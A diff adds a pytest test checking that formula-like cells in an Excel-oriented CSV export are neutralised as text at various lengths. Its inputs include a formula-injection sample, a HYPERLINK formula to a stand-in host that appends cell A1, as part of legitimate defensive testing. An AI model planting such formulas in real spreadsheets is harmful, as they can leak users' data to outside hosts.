@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -160,6 +161,26 @@ def test_cells_that_excel_would_alter_can_be_written_as_text(tmp_path: Path) -> 
         ["k2", '="+46736998552"', '="00"', "Björn; Næss", "2001-12-31", "", '="-1+2"'],
         ["k3", "", '="1e5"', 'says "no"', "", "soon", '="@sum(A1)"'],
     ]
+
+
+@pytest.mark.parametrize("length", [255, 256, 700, 9000])
+@pytest.mark.parametrize("text", ['=HYPERLINK("https://x.example/""&A1)', "@a\nå", '+x"', "-☃&"])
+def test_a_formula_of_any_length_is_written_as_text(tmp_path: Path, text: str, length: int) -> None:
+    cell, target = (text * length)[:length], tmp_path / "made.csv"
+    target.touch()
+    with a_list(["Export key", "x"], [["k", cell]]) as (engine, listed, folder):
+        made = as_csv_for_excel(shaped(engine, listed), ForExcel(";", as_text=True))
+        write_csv(engine, made, folder / "work", target, NOT_STOPPED, packed=False)
+    _heading, (_key, written) = csv.reader(
+        io.StringIO(target.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"
+    )
+    pieces = re.findall(r'"((?:[^"]|"")*)"', written)
+    assert written == "=" + "&".join(f'"{piece}"' for piece in pieces)
+    assert "".join(pieces).replace('""', '"') == cell
+    assert max(len(piece.replace('""', '"')) for piece in pieces) <= 255
+    (tmp_path / "again").mkdir()
+    with opened([target], tmp_path / "again", NOT_STOPPED) as (engine, (again,)):
+        assert list(engine.rows(f"SELECT * FROM {again.as_excel_shows().source}")) == [("k", cell)]
 
 
 def test_the_columns_that_excel_alters_are_named() -> None:
